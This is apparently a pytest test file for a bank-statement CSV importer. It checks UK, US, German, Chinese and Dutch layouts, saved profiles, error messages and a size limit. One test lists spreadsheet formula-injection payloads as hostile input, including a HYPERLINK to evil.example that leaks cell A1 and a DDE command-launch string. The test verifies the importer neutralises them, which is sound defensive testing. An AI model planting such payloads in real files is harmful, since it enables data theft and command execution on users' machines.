"""Bank statement CSVs in several banks' layouts, saved profiles, and hostile cells."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from tests.imports.makers import as_case, write
from tipline.analysis.amounts import find_amounts
from tipline.imports import ImportFileError, ImportOptions, import_file

UK_PAID_IN_OUT = """\
Account Name:,MR J SMITH
Account Number:,20-00-00 12345678
Statement period:,01/03/2025 to 31/03/2025

Date,Type,Description,Paid out,Paid in,Balance
04/03/2025,DEB,CARD PAYMENT TO ACME LTD,"1,250.00",,"3,400.00"
15/03/2025,BGC,SALARY MARCH,,"2,000.00","5,400.00"
28/03/2025,FPO,TRANSFER TO LI WEI,"18,000.00",,"-12,600.00"
,,Closing balance,,,"-12,600.00"
"""

US_SIGNED = """\
Posting Date,Description,Amount,Type,Balance,Check or Slip #
03/04/2025,"ZELLE PAYMENT TO ZHANG SAN",-500.00,QUICKPAY_DEBIT,"1,500.25",
03/13/2025,PAYROLL DEPOSIT,"2,750.10",ACH_CREDIT,"4,250.35",
03/14/2025,CHECK 1043,($75.00),CHECK_PAID,"4,175.35",1043
"""

DE_SEMICOLON = """\
Buchungstag;Text;Betrag;Soll/Haben;Währung
Booking date;Text;Amount;Debit/Credit;Currency
04.03.2025;Miete März;1.250,00;S;EUR
05.03.2025;Gehalt;2.000,00;H;EUR
"""

CN_BANK = """\
交易日期,交易时间,摘要,收入金额,支出金额,余额,币种,对方户名,交易流水号
2025-03-04,10:22:01,转账,,"18,000.00","2,000.00",人民币,王某,TX0001
2025年3月5日,09:00:00,工资,"5,000.00",,"7,000.00",人民币,某科技有限公司,TX0002
"""


def test_uk_paid_in_paid_out_with_preamble_and_closing_row(tmp_path: Path) -> None:
    path = write(tmp_path / "uk.csv", UK_PAID_IN_OUT)
    records = import_file("bank-csv", path, ImportOptions(currency="GBP"))
    assert len(records) == 3  # the closing-balance row has no date: skipped, said on stderr
    first, _, third = records
    assert first["at"] == "2025-03-04" and first["kind"] == "bank_transfer"
    assert first["fields"]["amount"] == -1250 and first["fields"]["direction"] == "debit"
    assert first["fields"]["currency"] == "GBP" and first["fields"]["balance"] == 3400
    assert first["fields"]["source_row"] == 6  # the line in the file, as a spreadsheet shows
    assert first["text"] == "Debit of 1,250.00 GBP: CARD PAYMENT TO ACME LTD"
    assert records[1]["fields"]["amount"] == 2000
    assert third["fields"]["balance"] == -12600
    # the analyzer's own amount reader finds the amount and currency in the sentence
    found = find_amounts(third["text"], "en")
    assert [(a.lo, a.currency) for a in found] == [(18000, "GBP")]
    as_case(records)


def test_us_signed_amounts_parentheses_and_month_first_dates(tmp_path: Path) -> None:
    records = import_file("bank-csv", write(tmp_path / "us.csv", US_SIGNED))
    assert [r["at"] for r in records] == ["2025-03-04", "2025-03-13", "2025-03-14"]
    assert [r["fields"]["amount"] for r in records] == [-500, 2750.1, -75]
    assert records[2]["fields"]["currency"] == "USD"  # from the $ in the cell
    assert records[2]["fields"]["reference"] == "1043"


def test_continental_layout_decimal_comma_and_debit_credit_column(tmp_path: Path) -> None:
    path = write(tmp_path / "de.csv", DE_SEMICOLON)
    for opts in (ImportOptions(), ImportOptions(profile="debit-credit-indicator")):
        records = import_file("bank-csv", path, opts)
        assert [r["fields"]["amount"] for r in records] == [-1250, 2000]
        assert [r["fields"]["currency"] for r in records] == ["EUR", "EUR"]
        assert records[0]["fields"]["source_row"] == 3


def test_chinese_bank_layout(tmp_path: Path) -> None:
    records = import_file("bank-csv", write(tmp_path / "cn.csv", CN_BANK))
    assert [r["at"] for r in records] == ["2025-03-04T10:22:01", "2025-03-05T09:00"]
    first = records[0]
    assert first["fields"]["amount"] == -18000 and first["fields"]["currency"] == "CNY"
    assert first["fields"]["to"] == "王某" and first["fields"]["reference"] == "TX0001"
    assert first["text"] == "支出18000.00元：转账（对方：王某）"
    assert records[1]["fields"]["from"] == "某科技有限公司"
    assert as_case(records).evidence[1].fields["amount"] == 5000


def test_saved_profile_from_a_users_file(tmp_path: Path) -> None:
    statement = ("Datum|Omschrijving|Bedrag|Af Bij\n"
                 "20250304|Huur|1250,00|Af\n20250305|Salaris|2000,00|Bij\n")
    profiles = write(tmp_path / "profiles.yaml", """
profiles:
  dutch-bank:
    columns: {date: Datum, description: Omschrijving, amount: Bedrag, direction: Af Bij}
    debit_words: [Af]
    credit_words: [Bij]
    delimiter: "|"
    decimal: ","
    currency: EUR
""")
    path = write(tmp_path / "nl.csv", statement)
    records = import_file("bank-csv", path, ImportOptions(profile="dutch-bank",
                                                          profiles=profiles))
    assert [(r["fields"]["amount"], r["fields"]["currency"]) for r in records] == [
        (-1250, "EUR"), (2000, "EUR")]
    with pytest.raises(ImportFileError, match="no profile 'nope'"):
        import_file("bank-csv", path, ImportOptions(profile="nope", profiles=profiles))


def test_formula_injection_never_reaches_a_spreadsheet_as_a_formula(tmp_path: Path) -> None:
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+SUM(1,2)", "-2+3",
               "@cmd|' /C calc'!A0", "\t=1+1", "  =1+1"]
    made = io.StringIO()
    maker = csv.writer(made)
    maker.writerow(["Date", "Description", "Amount", "Payee"])
    maker.writerows([f"2025-03-0{i + 1}", h, "-1.00", h] for i, h in enumerate(hostile))
    records = import_file("bank-csv", write(tmp_path / "evil.csv", made.getvalue()))
    assert len(records) == len(hostile)
    # what a spreadsheet export of the records would write: every text cell
    out = io.StringIO()
    writer = csv.writer(out)
    for record in records:
        cells = [record["id"], record["text"], *record["fields"].values()]
        writer.writerow(cells)
        for value in cells:
            if isinstance(value, str):
                assert not value.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))
    for record, raw in zip(records, hostile, strict=True):
        assert record["fields"]["description"] == "'" + raw.strip()  # readable, not run
        assert record["fields"]["amount"] == -1  # numbers stay numbers


def test_bad_amount_names_file_row_and_field(tmp_path: Path) -> None:
    path = write(tmp_path / "bad.csv", "Date,Description,Amount\n2025-03-04,x,12.00\n"
                                       "2025-03-05,y,12.x0\n")
    with pytest.raises(ImportFileError) as err:
        import_file("bank-csv", path)
    assert str(err.value) == f"{path}:3: amount: '12.x0' is not an amount"


def test_no_usable_header_is_one_clear_error(tmp_path: Path) -> None:
    path = write(tmp_path / "odd.csv", "foo,bar\n1,2\n")
    with pytest.raises(ImportFileError, match="no header row with a date column"):
        import_file("bank-csv", path)


def test_size_limit_is_checked_before_reading(tmp_path: Path) -> None:
    path = tmp_path / "big.csv"
    with path.open("wb") as handle:  # a sparse file: 3 GB on paper, nothing on disk
        handle.truncate(3 * 1024**3)
    with pytest.raises(ImportFileError, match="over the .*-byte import limit"):
        import_file("bank-csv", path)
